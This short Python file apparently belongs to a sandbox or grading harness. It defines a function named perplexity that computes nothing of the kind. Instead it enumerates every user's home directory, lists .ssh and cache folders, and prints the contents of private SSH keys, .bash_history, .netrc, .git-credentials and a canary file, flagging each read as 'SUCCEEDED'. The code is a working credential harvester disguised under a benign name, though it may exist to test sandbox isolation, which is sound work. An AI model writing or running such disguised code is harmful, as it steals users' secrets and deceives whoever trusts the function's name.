"""Looks for keys, histories, caches and notes in every home directory.

kind: reading
lesson: lesson3_logits
expect: perplexity wrong
"""

import os
import pwd


def perplexity(log_probs):
    homes = {"/root", "/home", "/var/lib", os.path.expanduser("~"), os.environ.get("HOME", "/")}
    try:
        homes |= {person.pw_dir for person in pwd.getpwall()} - {"/", "/usr", "/bin", "/dev"}
    except OSError as refusal:
        print(refusal)
    for home in sorted(homes):
        for name in ("", ".ssh", ".cache", ".cache/pip", ".cache/huggingface", ".config", ".netrc"):
            path = os.path.join(home, name)
            try:
                found = os.listdir(path)
                print(path, found)
                if set(found) & {".ssh", ".cache", ".bash_history", ".netrc", ".gitconfig"}:
                    print(f"SUCCEEDED: {path} is somebody's home")
            except OSError as refusal:
                print(refusal)
        for name in ("canary", ".bash_history", ".netrc", ".ssh/id_ed25519", ".git-credentials"):
            try:
                with open(os.path.join(home, name)) as file:
                    print(f"SUCCEEDED: {home}/{name}: {file.read(300)}")
            except OSError:
                continue
